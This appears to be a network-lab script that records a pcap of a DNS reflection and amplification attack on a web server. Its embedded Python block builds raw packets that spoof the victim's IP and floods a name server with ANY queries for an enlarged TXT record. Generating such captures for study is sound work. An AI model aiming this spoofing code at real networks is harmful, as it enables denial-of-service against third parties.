#!/usr/bin/env bash
# Nothing is down: somebody on another network asks the name server for a large answer, again and again,
# in the name of the web server, which gets the answers. Captured at the web server.
source "$(dirname "$0")/lib.sh"
begin "$@"

start_named s
name_server=$DAEMON
start_web w
printf 'large TXT "%0240d" "%0240d"\n' 0 0 >>"$WORK/named-s/zone"
kill -HUP "$name_server"
for ns in r s w; do on $ns sysctl -qw net.ipv4.conf.all.rp_filter=0; done
capture w eth0 dns-reflection.pcap
for _ in 1 2 3; do
  try c curl -s -o /dev/null http://www.example.com/
  sleep 1
done
try l python3 -c '
import random, socket, struct, time
sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for number in range(260):
    query = struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 1)
    query += b"\x05large\x07example\x03com\0\0\xff\0\x01" + b"\0" + struct.pack(">HHIH", 41, 1232, 0, 0)
    udp = struct.pack(">HHHH", random.randrange(1024, 65536), 53, 8 + len(query), 0) + query
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                       socket.inet_aton("198.51.100.80"), socket.inet_aton("203.0.113.2"))
    sock.sendto(head + udp, ("203.0.113.2", 0))
    if number % 10 == 9:
        time.sleep(0.1)
' &
flood=$!
while kill -0 "$flood" 2>/dev/null; do
  try c curl -s -o /dev/null http://www.example.com/
  sleep 0.2
done
try c curl -s -o /dev/null http://www.example.com/
end_captures
